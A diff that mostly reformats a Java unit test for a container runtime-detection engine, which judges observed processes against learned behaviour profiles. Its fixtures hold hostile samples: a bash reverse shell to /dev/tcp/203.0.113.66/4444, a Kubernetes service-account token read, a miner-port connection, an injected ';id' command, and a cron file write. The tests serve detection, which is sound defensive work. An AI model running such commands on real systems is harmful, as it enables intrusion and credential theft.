@@ -33,13 +33,17 @@ import salvor.workload.WorkloadRef;
 class JudgeTest {
   private static final ImageDigest DIGEST = new ImageDigest("sha256:" + "a".repeat(64));
   private static final Location WEB =
-      new Location(null, "shop", "web-5468d8c4df-8ppl7", null, "web", "0123456789ab", null, DIGEST, null);
+      new Location(
+          null, "shop", "web-5468d8c4df-8ppl7", null, "web", "0123456789ab", null, DIGEST, null);
   private static final Trait.Exec PING =
-      new Trait.Exec("/bin/dash", null, "/usr/bin/python3", "-c {ping -c <number> <ip>}", null, null);
+      new Trait.Exec(
+          "/bin/dash", null, "/usr/bin/python3", "-c {ping -c <number> <ip>}", null, null);
   private static final Trait.Exec DATE = new Trait.Exec("/bin/date", null, null, "", null, null);
   private static final Trait.Network DATABASE =
-      new Trait.Network(Trait.Network.Direction.OUT, new Peer.Address("198.51.100.10"), 5432, "tcp", "python3");
-  private static final Trait.File LOG = new Trait.File("/var/log/app.log", Trait.File.Access.WRITE, "python3");
+      new Trait.Network(
+          Trait.Network.Direction.OUT, new Peer.Address("198.51.100.10"), 5432, "tcp", "python3");
+  private static final Trait.File LOG =
+      new Trait.File("/var/log/app.log", Trait.File.Access.WRITE, "python3");
 
   private int line;
 
@@ -54,41 +58,75 @@ class JudgeTest {
     Judgement judgement = judge(profile(FacetState.STABLE), shell("id")).judgement(0);
     assertThat(judgement.element()).contains("ping -c <number> <ip>");
     assertThat(judgement.differences())
-        .containsExactly(new Judgement.Difference("arguments", "-c {ping -c <number> <ip>}", "-c {id}"));
+        .containsExactly(
+            new Judgement.Difference("arguments", "-c {ping -c <number> <ip>}", "-c {id}"));
     assertThat(judgement.support()).isEqualTo("2 of 3");
   }
 
   @Test
   void whatAForeignProcessDoesIsOutEvenWhenTheWorkloadDoesIt() {
-    Observation injected = start(100, 50, "/bin/dash", "sh", "sh -c id", "/usr/bin/python3", "python3");
+    Observation injected =
+        start(100, 50, "/bin/dash", "sh", "sh -c id", "/usr/bin/python3", "python3");
     Observation date = start(101, 100, "/bin/date", "date", "date", "/bin/dash", "sh");
     Verdicts verdicts = judge(profile(FacetState.STABLE), injected, date);
     assertThat(verdicts.judgement(1).reason()).isEqualTo(Reason.FOREIGN_LINEAGE);
     assertThat(verdicts.judgement(1).modifiers())
-        .contains(Judgement.Modifier.SHELL_ANCESTOR, Judgement.Modifier.SAME_LINEAGE_AS_EARLIER_OUT);
+        .contains(
+            Judgement.Modifier.SHELL_ANCESTOR, Judgement.Modifier.SAME_LINEAGE_AS_EARLIER_OUT);
   }
 
   @Test
   void anotherDigestIsStaleAndNoBaselineIsUnknown() {
     Profile other = profile(FacetState.STABLE, new ImageDigest("sha256:" + "b".repeat(64)), "web");
     assertThat(judge(other, shell("id")).judgement(0).reason()).isEqualTo(Reason.FACET_STALE);
-    Profile elsewhere = profile(FacetState.STABLE, new ImageDigest("sha256:" + "b".repeat(64)), "pay");
+    Profile elsewhere =
+        profile(FacetState.STABLE, new ImageDigest("sha256:" + "b".repeat(64)), "pay");
     assertThat(judge(elsewhere, shell("id")).judgement(0).reason()).isEqualTo(Reason.NO_BASELINE);
   }
 
   @Test
   void aProbeIsExplainedOnlyFromOutsideTheInitTreeAndOnlyWithAllItsArguments() {
     Container container =
-        new Container("web", "0123456789ab", null, DIGEST, null,
-            List.of(new DeclaredCommand(DeclaredCommand.Kind.READINESS_PROBE, List.of("test", "-f", "/x"))));
+        new Container(
+            "web",
+            "0123456789ab",
+            null,
+            DIGEST,
+            null,
+            List.of(
+                new DeclaredCommand(
+                    DeclaredCommand.Kind.READINESS_PROBE, List.of("test", "-f", "/x"))));
     Pod pod =
-        new Pod("shop", "web-5468d8c4df-8ppl7", null, null, List.of(), null,
-            new WorkloadRef("shop", "Deployment", "web"), List.of(container));
+        new Pod(
+            "shop",
+            "web-5468d8c4df-8ppl7",
+            null,
+            null,
+            List.of(),
+            null,
+            new WorkloadRef("shop", "Deployment", "web"),
+            List.of(container));
     Inventory inventory = new Inventory(List.of(pod), List.of(), Map.of());
-    Observation probe = start(7, 1, "/bin/test", "test", "test -f /x", "/usr/bin/containerd-shim-runc-v2", "containerd-shim");
-    Observation spoof = start(8, 50, "/bin/test", "test", "test -f /x", "/usr/bin/python3", "python3");
+    Observation probe =
+        start(
+            7,
+            1,
+            "/bin/test",
+            "test",
+            "test -f /x",
+            "/usr/bin/containerd-shim-runc-v2",
+            "containerd-shim");
+    Observation spoof =
+        start(8, 50, "/bin/test", "test", "test -f /x", "/usr/bin/python3", "python3");
     Observation longer =
-        start(9, 1, "/bin/test", "test", "test -f /x -o /y", "/usr/bin/containerd-shim-runc-v2", "containerd-shim");
+        start(
+            9,
+            1,
+            "/bin/test",
+            "test",
+            "test -f /x -o /y",
+            "/usr/bin/containerd-shim-runc-v2",
+            "containerd-shim");
     Verdicts verdicts =
         new Judge(List.of(profile(FacetState.STABLE)), inventory)
             .judge(Observations.of(List.of(probe, spoof, longer)), Progress.NONE);
@@ -100,19 +138,38 @@ class JudgeTest {
   @Test
   void hardIndicatorsNeedNoBaseline() {
     Observation memory = start(1, 2, "memfd:x", "7", "x", "/pay", "pay");
-    Observation socket = start(3, 2, "/bin/bash", "bash", "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "/a", "a");
+    Observation socket =
+        start(
+            3,
+            2,
+            "/bin/bash",
+            "bash",
+            "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
+            "/a",
+            "a");
     Observation token =
-        act(4, "/usr/bin/cat", "cat",
+        act(
+            4,
+            "/usr/bin/cat",
+            "cat",
             new Activity.FileOpened("/var/run/secrets/kubernetes.io/serviceaccount/token", null));
     Observation miner =
-        act(5, "/tmp/m", "m", new Activity.ConnectionOpened(Endpoint.NONE, new Endpoint("203.0.113.77", 3333, null), "tcp"));
+        act(
+            5,
+            "/tmp/m",
+            "m",
+            new Activity.ConnectionOpened(
+                Endpoint.NONE, new Endpoint("203.0.113.77", 3333, null), "tcp"));
     Verdicts verdicts =
         new Judge(List.of(), Inventory.EMPTY)
             .judge(Observations.of(List.of(memory, socket, token, miner)), Progress.NONE);
     assertThat(List.of(0, 1, 2, 3))
         .extracting(row -> verdicts.judgement(row).reason())
         .containsExactly(
-            Reason.EXECUTED_FROM_MEMORY, Reason.SHELL_ON_NETWORK, Reason.TOKEN_READ_BY_TOOL, Reason.MINER_PORT);
+            Reason.EXECUTED_FROM_MEMORY,
+            Reason.SHELL_ON_NETWORK,
+            Reason.TOKEN_READ_BY_TOOL,
+            Reason.MINER_PORT);
   }
 
   @Property(tries = 60)
@@ -124,11 +181,13 @@ class JudgeTest {
   }
 
   @Property(tries = 60)
-  void forgettingAnElementNeverTurnsOutIntoIn(@ForAll @IntRange(max = 3) int forgotten, @ForAll @IntRange(max = 5) int which) {
+  void forgettingAnElementNeverTurnsOutIntoIn(
+      @ForAll @IntRange(max = 3) int forgotten, @ForAll @IntRange(max = 5) int which) {
     Profile whole = profile(FacetState.STABLE);
     List<Element> fewer = new ArrayList<>(whole.elements());
     fewer.remove(forgotten);
-    Profile less = new Profile(whole.name(), whole.key(), whole.states(), fewer, 3, null, null, "salvor");
+    Profile less =
+        new Profile(whole.name(), whole.key(), whole.states(), fewer, 3, null, null, "salvor");
     if (judge(whole, sample(which)).verdict(0) == Verdict.OUT) {
       assertThat(judge(less, sample(which)).verdict(0)).isNotEqualTo(Verdict.IN);
     }
@@ -139,21 +198,35 @@ class JudgeTest {
     Profile whole = profile(FacetState.STABLE);
     List<Element> shuffled = new ArrayList<>(whole.elements());
     Collections.shuffle(shuffled, new java.util.Random(seed));
-    Profile other = new Profile(whole.name(), whole.key(), whole.states(), shuffled, 3, null, null, "salvor");
+    Profile other =
+        new Profile(whole.name(), whole.key(), whole.states(), shuffled, 3, null, null, "salvor");
     Observation observation = sample(which);
-    assertThat(judge(other, observation).judgement(0).reason()).isEqualTo(judge(whole, observation).judgement(0).reason());
+    assertThat(judge(other, observation).judgement(0).reason())
+        .isEqualTo(judge(whole, observation).judgement(0).reason());
   }
 
   private Observation sample(int which) {
     return switch (which) {
       case 0 -> shell("ping -c 1 10.0.0.1");
       case 1 -> shell("ping -c 1 10.0.0.1;id");
-      case 2 -> act(9, "/usr/bin/python3", "python3",
-          new Activity.ConnectionOpened(Endpoint.NONE, new Endpoint("198.51.100.10", 5432, null), "tcp"));
-      case 3 -> act(9, "/usr/bin/python3", "python3",
-          new Activity.ConnectionOpened(Endpoint.NONE, new Endpoint("198.51.100.99", 80, null), "tcp"));
-      case 4 -> act(9, "/usr/bin/python3", "python3", new Activity.FileWritten("/var/log/app.log", null));
-      default -> act(9, "/usr/bin/python3", "python3", new Activity.FileWritten("/etc/cron.d/x", null));
+      case 2 ->
+          act(
+              9,
+              "/usr/bin/python3",
+              "python3",
+              new Activity.ConnectionOpened(
+                  Endpoint.NONE, new Endpoint("198.51.100.10", 5432, null), "tcp"));
+      case 3 ->
+          act(
+              9,
+              "/usr/bin/python3",
+              "python3",
+              new Activity.ConnectionOpened(
+                  Endpoint.NONE, new Endpoint("198.51.100.99", 80, null), "tcp"));
+      case 4 ->
+          act(9, "/usr/bin/python3", "python3", new Activity.FileWritten("/var/log/app.log", null));
+      default ->
+          act(9, "/usr/bin/python3", "python3", new Activity.FileWritten("/etc/cron.d/x", null));
     };
   }
 
@@ -180,7 +253,14 @@ class JudgeTest {
       elements.add(new Element(trait, 2, null, null, Set.of(Phase.STEADY), List.of()));
     }
     return new Profile(
-        "web", new Profile.Key("shop", "Deployment", workload, "web", digest), states, elements, 3, null, null, "salvor");
+        "web",
+        new Profile.Key("shop", "Deployment", workload, "web", digest),
+        states,
+        elements,
+        3,
+        null,
+        null,
+        "salvor");
   }
 
   private Observation shell(String payload) {
@@ -188,15 +268,30 @@ class JudgeTest {
   }
 
   private Observation start(
-      int pid, int parent, String executable, String name, String command, String parentPath, String parentName) {
+      int pid,
+      int parent,
+      String executable,
+      String name,
+      String command,
+      String parentPath,
+      String parentName) {
     return observation(
-        new ProcessInfo(pid, pid + 1, null, executable, name, command, null, null,
+        new ProcessInfo(
+            pid,
+            pid + 1,
+            null,
+            executable,
+            name,
+            command,
+            null,
+            null,
             new ProcessInfo.Parent(parent, null, parentPath, parentName, null)),
         new Activity.ProcessStarted());
   }
 
   private Observation act(int pid, String executable, String name, Activity activity) {
-    return observation(new ProcessInfo(pid, pid, null, executable, name, name, null, null, null), activity);
+    return observation(
+        new ProcessInfo(pid, pid, null, executable, name, name, null, null, null), activity);
   }
 
   private Observation observation(ProcessInfo process, Activity activity) {
